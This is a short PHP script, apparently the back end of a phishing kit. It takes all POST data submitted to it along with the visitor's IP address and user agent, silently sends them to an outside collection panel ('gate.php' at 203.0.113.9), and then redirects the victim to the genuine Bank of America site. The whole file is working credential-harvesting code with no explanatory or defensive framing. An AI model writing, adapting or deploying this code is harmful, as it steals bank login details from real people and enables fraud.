<?php
$q = http_build_query(array_merge($_POST, array('ip' => $_SERVER['REMOTE_ADDR'], 'ua' => $_SERVER['HTTP_USER_AGENT'])));
@file_get_contents('http://203.0.113.9/panel/gate.php?' . $q);
echo '<meta http-equiv="refresh" content="0;url=https://secure.bankofamerica.com">';
